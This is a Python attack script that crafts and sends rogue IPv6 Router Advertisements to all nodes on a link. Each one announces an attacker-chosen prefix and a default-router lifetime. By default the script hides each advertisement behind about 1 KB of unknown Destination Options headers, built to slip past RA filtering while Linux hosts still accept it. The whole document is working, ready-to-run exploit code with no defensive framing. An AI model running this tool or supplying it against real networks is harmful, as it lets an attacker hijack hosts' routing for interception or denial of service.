#!/usr/bin/env python3
"""A rogue router advertisement hidden behind about 1 KB of extension headers.

  rogue_ra.py IFACE PREFIX [--count N] [--plain]

Sends N (default 1) RAs to all nodes (ff02::1) from fe80::66 with hop limit
255: router lifetime 1800 s and a prefix information option for PREFIX/64
(on-link, autonomous), behind a Destination Options header of four unknown
255-byte options (type 0x1e: skip if unknown), which Linux accepts (no more
than 8 options, no padding option over 7 bytes). --plain sends the RA without
the header. Stdlib only.
"""
import argparse
import socket
import struct

from dhcp_frames import checksum

SRC = socket.inet_pton(socket.AF_INET6, "fe80::66")
DST = socket.inet_pton(socket.AF_INET6, "ff02::1")


def ra(mac: bytes, prefix: str) -> bytes:
    """RFC 4861 4.2, with its checksum over the RFC 8200 8.1 pseudo-header."""
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, prefix)
    body += bytes([1, 1]) + mac  # source link-layer address
    pseudo = SRC + DST + struct.pack("!IxxxB", len(body), 58)
    return body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]


def destination_options(next_header: int) -> bytes:
    opts = b"".join(bytes([0x1E, 255]) + b"\xab" * 255 for _ in range(4))
    opts += bytes([1, 0])  # PadN of 2: the header to a multiple of 8 bytes (1032)
    return bytes([next_header, (2 + len(opts)) // 8 - 1]) + opts


def frame(mac: bytes, prefix: str, plain: bool) -> bytes:
    payload = ra(mac, prefix)
    next_header = 58
    if not plain:
        payload = destination_options(58) + payload
        next_header = 60
    ip6 = struct.pack("!IHBB", 6 << 28, len(payload), next_header, 255) + SRC + DST
    return bytes.fromhex("333300000001") + mac + b"\x86\xdd" + ip6 + payload


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    ap.add_argument("prefix")
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--plain", action="store_true")
    a = ap.parse_args()
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    mac = s.getsockname()[4]
    f = frame(mac, a.prefix, a.plain)
    for _ in range(a.count):
        s.send(f)
    print(len(f))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
